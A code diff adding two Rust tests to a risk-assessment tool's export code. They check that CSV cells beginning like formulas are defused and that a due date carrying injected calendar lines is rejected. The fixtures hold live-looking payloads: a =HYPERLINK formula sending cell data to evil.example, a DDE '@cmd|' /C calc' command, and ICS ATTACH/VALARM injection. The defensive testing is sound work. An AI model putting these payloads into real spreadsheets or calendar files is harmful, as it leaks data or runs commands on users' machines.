@@ -333,3 +333,74 @@ fn a_measures_status_is_set_in_the_answer_form_and_reaches_the_plan() -> TestRes
     assert!(md.contains("   - Status: pågår\n"), "{md}");
     Ok(())
 }
+
+/// A measure, owner or note that begins like a formula is shown, never run,
+/// when the action plan is opened in a spreadsheet (round 3, rel F4: five
+/// formula cells, `=HYPERLINK(…)` among them).
+#[test]
+fn the_sheet_runs_no_formula_a_measure_begins_with() -> TestResult {
+    use somevett::domain::risk::Measure;
+    let mut o = somevett::domain::Outcome::new("id".into(), "Ark".into(), common::now());
+    o.risk.entry("egen.1").measures = vec![
+        Measure {
+            text: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikk\")".into(),
+            owner: "+SUM(1+1)".into(),
+            note: "@cmd|' /C calc'!A0".into(),
+            ..Measure::default()
+        },
+        Measure {
+            text: "-2+3".into(),
+            owner: "\t=1+1".into(),
+            ..Measure::default()
+        },
+        Measure {
+            text: "Moderer kommentarene".into(),
+            ..Measure::default()
+        },
+    ];
+    let library = common::library();
+    let bytes = outcome::export::bytes(&o, &library, outcome::export::Kind::Csv)?.0;
+    let text = String::from_utf8(bytes)?;
+    let mut sheet = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = 0;
+    for record in sheet.records() {
+        for field in record?.iter() {
+            cells += 1;
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell: {field:?}"
+            );
+        }
+    }
+    assert!(cells > 10);
+    assert!(
+        text.contains("'=HYPERLINK"),
+        "the text is kept, marked: {text}"
+    );
+    assert!(text.contains("Moderer kommentarene"), "{text}");
+    Ok(())
+}
+
+/// A due date can no longer hold anything but a date, so an ICS export
+/// cannot carry properties injected through it (round 3, rel F5): a file
+/// whose `due` holds a line break is refused when it is read.
+#[test]
+fn a_due_date_with_calendar_lines_in_a_file_is_refused() -> TestResult {
+    let mut o = somevett::domain::Outcome::new("id".into(), "Kalender".into(), common::now());
+    o.risk.entry("egen.1").measures = vec![somevett::domain::risk::Measure {
+        text: "Tiltak".into(),
+        due: common::day("2027-01-01"),
+        ..Default::default()
+    }];
+    let text = outcome::to_ron(&o)?.replace(
+        "\"2027-01-01\"",
+        "\"2027-01-01\\nATTACH:http://evil.example/x\\nBEGIN:VALARM\"",
+    );
+    let err = outcome::parse("kalender.ron", &text)
+        .err()
+        .map(|e| e.to_string());
+    assert!(err.is_some_and(|e| e.contains("er ikke en dato")));
+    Ok(())
+}
